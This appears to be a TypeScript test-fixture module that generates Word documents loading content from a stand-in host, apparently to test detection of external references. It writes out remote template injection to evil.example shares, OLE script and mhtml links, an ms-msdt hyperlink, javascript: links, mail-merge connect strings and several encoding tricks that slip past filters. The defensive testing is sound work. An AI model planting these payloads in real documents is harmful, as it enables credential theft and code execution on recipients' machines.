import {
  contentTypes,
  documentOf,
  docx,
  docxRelated,
  docxWithBody,
  relationshipsOf,
} from "../kit/word.ts";

/** Named Word documents that load something from another host. @param evil the URL that most of them load from */
export function docxWithSources(evil: string): [string, Buffer][] {
  const external = (type: string, target = evil, part = "document"): [string, Buffer] => [
    `external ${type} ${target} of ${part}`,
    docxRelated([{ type, target, isExternal: true }], part),
  ];
  return [
    external("attachedTemplate", evil, "settings"),
    external("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "settings"),
    external("attachedTemplate", "file://evil.example/share/t.dotm", "settings"),
    external("attachedTemplate", "file:////evil.example/share/t.dotm", "settings"),
    external("oleObject"),
    external("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"),
    external("oleObject", "script:https://evil.example/a.sct"),
    external("image"),
    external("image", "\\\\evil.example\\a.png", "header1"),
    external("frame", evil, "webSettings"),
    external("subDocument"),
    external("aFChunk"),
    external("mailMergeSource", "file:///C:/data.mdb", "settings"),
    external("hyperlink", "javascript:alert(1)"),
    external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    external("hyperlink", "\\\\evil.example\\share"),
    external("hyperlink", "file://evil.example/share"),
    external("hyperlink", "search-ms:query=a"),
    ["image at a URL that is declared as a part", docxRelated([{ type: "image", target: evil }])],
    ["picture by its URL", docxWithBody(`<w:p><v:imagedata src="${evil}"/></w:p>`)],
    external("attachedTemplate", "%5c%5cevil.example/share/t.dotm", "settings"),
    external("attachedTemplate", "/&#9;/evil.example/share/t.dotm", "settings"),
    external("hyperlink", "java&#9;script:alert(1)"),
    ...outsideRelationships(evil),
    [
      "SVG that loads an image",
      docx([
        contentTypesWith("word/media/a.svg", "image/svg+xml"),
        {
          name: "word/media/a.svg",
          content: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>`,
        },
      ]),
    ],
    [
      "relationships in UTF-16",
      docx([
        partInUtf16(
          "word/_rels/document.xml.rels",
          relationshipsOf([{ type: "image", target: evil, isExternal: true }]),
        ),
      ]),
    ],
    [
      "relationships with another prefix",
      docx([
        {
          name: "word/_rels/document.xml.rels",
          content: relationshipsOf([{ type: "image", target: evil, isExternal: true }])
            .replaceAll("<Relationship", "<p:Relationship")
            .replaceAll("</Relationship", "</p:Relationship")
            .replace("xmlns=", "xmlns:p="),
        },
      ]),
    ],
    [
      "target with a character reference",
      docxRelated([{ type: "image", target: "&#104;ttps://evil.example/a", isExternal: true }]),
    ],
    [
      "mode with a character reference",
      docx([
        {
          name: "word/_rels/document.xml.rels",
          content: relationshipsOf([{ type: "image", target: "a", isExternal: true }]).replace(
            "External",
            "Exte&#x72;nal",
          ),
        },
      ]),
    ],
  ];
}

/** Word documents that name their images, or the data of a form letter, outside of the list of relationships. */
function outsideRelationships(url: string): [string, Buffer][] {
  return [
    ...drawingsInVml.map(([name, drawing]): [string, Buffer] => [name, docxWithBody(drawing(url))]),
    [
      "picture on a host after encoded backslashes",
      docxWithBody(
        `<w:p><v:imagedata ${vmlOfficeNamespace} o:href="%5c%5cevil.example/a.png"/></w:p>`,
      ),
    ],
    [
      "picture on a host after an encoded tab",
      docxWithBody('<w:p><v:imagedata src="/&#9;/evil/a"/></w:p>'),
    ],
    ...mailMerges.map(([name, inside]): [string, Buffer] => [name, settingsWith(inside)]),
  ];
}

/** Declares the prefix `o:` of Office's additions to drawings in VML. */
export const vmlOfficeNamespace = 'xmlns:o="urn:schemas-microsoft-com:office:office"';

/** Drawings in VML that name their images outside of the list of relationships. */
const drawingsInVml: [string, (url: string) => string][] = [
  ["picture by o:href", (url) => `<w:p><v:imagedata ${vmlOfficeNamespace} o:href="${url}"/></w:p>`],
  [
    "picture by o:althref",
    (url) => `<w:p><v:imagedata ${vmlOfficeNamespace} o:althref="${url}"/></w:p>`,
  ],
  ["filling by o:href", (url) => `<w:p><v:fill ${vmlOfficeNamespace} o:href="${url}"/></w:p>`],
  ["line by o:href", (url) => `<w:p><v:stroke ${vmlOfficeNamespace} o:href="${url}"/></w:p>`],
  ["picture by href", (url) => `<w:p><v:imagedata href="${url}"/></w:p>`],
  [
    "picture by o:href under another prefix",
    (url) =>
      `<w:p><v:imagedata xmlns:q="urn:schemas-microsoft-com:office:office" q:href="${url}"/></w:p>`,
  ],
  [
    "picture by o:href in addition to a relationship",
    (url) => `<w:p><v:imagedata ${vmlOfficeNamespace} r:href="rId1" o:href="${url}"/></w:p>`,
  ],
  ["drawing that links to a share", () => '<w:p><v:shape href="\\\\evil.example\\a"/></w:p>'],
  ["drawing that links to a script", () => '<w:p><v:rect href="javascript:alert(1)"/></w:p>'],
];

const mailMerges: [string, string][] = [
  ["form letter", "<w:mailMerge/>"],
  [
    "form letter with its database",
    '<w:mailMerge><w:connectString w:val="Provider=SQLNCLI;Data Source=evil.example"/></w:mailMerge>',
  ],
  ["data source of a form letter", '<w:dataSource r:id="rId1"/>'],
  ["query of a form letter", '<w:odso><w:udl w:val="Data Source=evil.example"/></w:odso>'],
];

/** A Word document with `inside` in its settings. */
export function settingsWith(inside: string): Buffer {
  const content = documentOf("")
    .replaceAll("w:document", "w:settings")
    .replace("<w:body></w:body>", inside);
  return docx([{ name: "word/settings.xml", content }]);
}

/** The document's list of content types, with an entry for the part `name`. */
export function contentTypesWith(name: string, type: string) {
  return {
    name: "[Content_Types].xml",
    content: contentTypes(`<Override PartName="/${name}" ContentType="${type}"/>`),
  };
}

/** A part of a document in UTF-16. */
export function partInUtf16(name: string, text: string) {
  return { name, content: Buffer.from(`\uFEFF${text}`, "utf16le") };
}
